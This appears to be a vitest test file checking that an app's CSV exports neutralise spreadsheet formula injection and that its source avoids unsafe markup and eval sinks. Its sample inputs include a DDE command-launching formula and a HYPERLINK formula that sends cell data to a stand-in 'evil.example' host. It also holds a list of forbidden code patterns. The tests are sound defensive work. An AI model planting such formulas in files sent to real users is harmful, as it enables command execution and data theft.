/**
 * Issue 9: files Centric writes are safe to open in a spreadsheet (no cell runs as a formula: OWASP
 * CSV injection), and Centric's own source never turns text into markup or code.
 */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { scoreRowsToCsv, type ScoreRow } from '~/lib/dashboard/export';
import { issuesToCsv } from '~/lib/import/read';
import { parseScoreFile } from '~/lib/sources/score-file';

const FORMULAS = ['=cmd|\' /C calc\'!A0', '+1+2', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1', '=HYPERLINK("https://evil.example/?"&A1,"Click")'];
const row = (id: string, tier: string): ScoreRow => ({ id, x: 1, tx: -0.5, T: 3, monetary: -4, pAlive: 0.5, expectedTransactions: 1, expectedSpend: 4, clv: -10, tier });

/** The cells of a CSV line written by csvText (quoted cells may hold commas). */
function cells(line: string): string[] {
  const out: string[] = [];
  for (const m of line.matchAll(/"((?:[^"]|"")*)"|([^,]*)/g)) {
    if (m.index !== undefined && m[0] === '' && out.length > 0 && line[m.index - 1] !== ',') continue;
    out.push(m[1] !== undefined ? m[1].replace(/""/g, '"') : m[2]!);
  }
  return out;
}

describe('exported scores (Options → Export scores, centric score)', () => {
  it('neutralises every text cell a spreadsheet would run, keeps negative numbers, and reads back as written', () => {
    const rows = FORMULAS.map((f, i) => row(`${f}#${i}`, i % 2 ? f : 'Gold'));
    const csv = scoreRowsToCsv(rows);
    const lines = csv.trim().split('\n').slice(1);
    expect(lines).toHaveLength(FORMULAS.length);
    for (const line of lines) {
      const [id, , tx, , monetary, , , , clv, , tier] = cells(line);
      expect(id!.startsWith("'"), line).toBe(true);
      expect(tier === 'Gold' || tier!.startsWith("'"), line).toBe(true);
      expect([tx, monetary, clv]).toEqual(['-0.5', '-4', '-10']);
    }
    const parsed = parseScoreFile(csv, { format: 'csv' });
    expect(parsed.ok).toBe(true);
    if (parsed.ok) {
      expect([...parsed.scores.values()].map((s) => s.customerId).sort()).toEqual(rows.map((r) => r.id.trim()).sort());
      expect(parsed.scores.get('+1+2#1')?.tier).toBe('+1+2');
    }
  });

  it('leaves ordinary ids alone', () => {
    expect(scoreRowsToCsv([row('C-1', 'Gold'), row('ana@x.example', 'Lead')]).split('\n').slice(1, 3).map((l) => l.split(',')[0])).toEqual(['C-1', 'ana@x.example']);
  });
});

describe('the list of import problems (downloadable CSV)', () => {
  it('quotes every cell and neutralises formulas from the imported file', () => {
    const csv = issuesToCsv(FORMULAS.slice(0, 4).map((value, i) => ({ line: i + 2, field: value, value, message: 'not a number' })));
    for (const line of csv.trim().split('\n').slice(1)) {
      for (const cell of line.split('","').slice(1, 3)) expect(cell.replace(/^"/, ''), line).toMatch(/^'[=+\-@]/);
    }
  });
});

describe('Centric’s source', () => {
  const roots = ['lib', 'components', 'entrypoints'].map((d) => resolve(process.cwd(), d));
  const sources: string[] = [];
  const walk = (dir: string) => {
    for (const name of readdirSync(dir)) {
      const path = join(dir, name);
      if (statSync(path).isDirectory()) walk(path);
      else if (/\.(ts|tsx)$/.test(name)) sources.push(path);
    }
  };
  roots.forEach(walk);

  it('never writes markup from text, never runs text as code', () => {
    expect(sources.length).toBeGreaterThan(100);
    const forbidden = [
      /dangerouslySetInnerHTML/,
      /\.innerHTML\s*=/,
      /\.outerHTML\s*=/,
      /insertAdjacentHTML/,
      /document\.write/,
      /createContextualFragment/,
      /(^|[^.\w$])eval\s*\(/,
      /new Function\s*\(/,
      /set(Timeout|Interval)\s*\(\s*['"`]/,
      /DOMParser/,
    ];
    const found: string[] = [];
    for (const file of sources) {
      const text = readFileSync(file, 'utf8').replace(/\/\*[\s\S]*?\*\/|\/\/.*$/gm, '');
      for (const pattern of forbidden) if (pattern.test(text)) found.push(`${file}: ${pattern}`);
    }
    expect(found).toEqual([]);
  });

  it('sets a dynamic href only where it is filtered: rule links (https, http, mailto), list rows (http, https), the report (an extension page)', () => {
    const hrefs = sources.filter((f) => /\shref=\{/.test(readFileSync(f, 'utf8'))).map((f) => f.slice(process.cwd().length + 1));
    expect(hrefs.sort()).toEqual(['components/lists/Worklist.tsx', 'components/report/ReportPage.tsx', 'components/sidebar/TreatmentCard.tsx']);
    expect(readFileSync('components/sidebar/TreatmentCard.tsx', 'utf8')).toMatch(/links = treatment\.links\.filter\(\(l\) => SAFE_HREF\.test\(l\.href\)\)/);
    // The worklist links to a row's recordUrl, which every list reader builds with absoluteUrl (http/https only) or new URL from the page's own URL.
    expect(readFileSync('components/lists/Worklist.tsx', 'utf8')).toMatch(/href=\{row\.recordUrl \?\? '#'\}/);
    for (const reader of readdirSync('lib/sites/lists').filter((f) => !['types.ts', 'table.ts', 'registry.ts'].includes(f))) {
      const text = readFileSync(`lib/sites/lists/${reader}`, 'utf8');
      for (const line of text.split('\n').filter((l) => /recordUrl[:=]/.test(l) || /recordUrl,$/.test(l.trim()))) {
        expect(`${reader}: ${line.trim()}`).toMatch(/absoluteUrl\(|new URL\(|^[\w.]+: recordUrl,$/);
      }
    }
    expect(readFileSync('lib/sites/lists/table.ts', 'utf8')).toMatch(/url\.protocol === 'https:' \|\| url\.protocol === 'http:' \? url\.href : undefined/);
    expect(readFileSync('components/report/ReportPage.tsx', 'utf8')).toMatch(/href=\{`\/purchases\.html\?customer=\$\{encodeURIComponent\(/);
  });
});
